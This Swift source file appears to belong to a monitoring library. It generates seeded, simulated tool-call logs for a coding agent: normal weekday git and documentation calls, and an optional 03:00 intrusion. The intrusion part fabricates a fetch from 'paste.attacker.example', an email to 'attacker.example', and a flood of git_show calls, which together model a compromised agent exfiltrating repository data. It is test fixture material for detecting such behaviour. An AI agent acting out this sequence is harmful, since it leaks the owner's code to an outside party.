import VigilCore

/// A simulated AI agent's tool calls: a coding assistant working weekdays 9-17 through git and a
/// documentation fetcher, and on request the last morning's intrusion (a 03:00 session that reads
/// the repository, fetches from a host it never used with a long argument, calls a tool it never
/// called, and floods calls). For the agent learner's tests and the demo; seeded, so the same
/// seed gives the same calls.
public struct AgentWorkday: Sendable {
    public var agent = "build-bot"
    public var days = 7
    /// Midnight UTC of the first day (a Monday).
    public var start = Timestamp(seconds: 1_764_547_200)
    public var seed: UInt64 = 7
    public var intrusion = true

    public init() {}

    public func calls() -> [ToolCall] {
        var rng = SplitMix64(mixing: seed)
        var out: [ToolCall] = []
        let docs = ["docs.python.org", "developer.mozilla.org", "swift.org"]
        for day in 0..<days {
            let weekday = day % 7 < 5
            guard weekday else { continue }
            let midnight = start + .seconds(Int64(day) * 86_400)
            var t = midnight + .seconds(9 * 3600 + Int64(rng.next() % 1800))
            let end = midnight + .seconds(17 * 3600)
            var cycle = 0
            while t < end {
                let step: (String, String, [String: String])
                switch cycle % 5 {
                case 0: step = ("git", "git_status", ["repo_path": "path:/srv/repo"])
                case 1: step = ("git", "git_diff_unstaged", ["repo_path": "path:/srv/repo"])
                case 2: step = ("fetch", "fetch", ["url": "url:" + docs[Int(rng.next() % UInt64(docs.count))], "max_length": "number"])
                case 3: step = ("git", "git_log", ["repo_path": "path:/srv/repo", "max_count": "number"])
                default: step = ("git", "git_status", ["repo_path": "path:/srv/repo"])
                }
                out.append(ToolCall(time: t, agent: agent, server: step.0, tool: step.1, decision: "allow", shape: step.2))
                cycle += 1
                t = t + .seconds(240 + Int64(rng.next() % 720))
            }
        }
        if intrusion {
            let midnight = start + .seconds(Int64(days) * 86_400)
            var t = midnight + .seconds(3 * 3600 + 120)
            let steps: [(String, String, [String: String])] = [
                ("git", "git_log", ["repo_path": "path:/srv/repo", "max_count": "number"]),
                ("fetch", "fetch", ["url": "url:paste.attacker.example", "max_length": "number"]),
                ("mail", "send_email", ["to": "email:attacker.example", "body": "text:513-4k"]),
            ]
            for s in steps {
                out.append(ToolCall(time: t, agent: agent, server: s.0, tool: s.1, decision: "allow", shape: s.2))
                t = t + .seconds(20)
            }
            for i in 0..<90 {
                out.append(ToolCall(time: t + .seconds(Int64(i) * 15), agent: agent, server: "git", tool: "git_show",
                                    decision: "allow", shape: ["repo_path": "path:/srv/repo", "revision": "text:9-64"]))
            }
        }
        return out
    }

    /// When the intrusion begins.
    public var intrusionStart: Timestamp { start + .seconds(Int64(days) * 86_400 + 3 * 3600 + 120) }
}
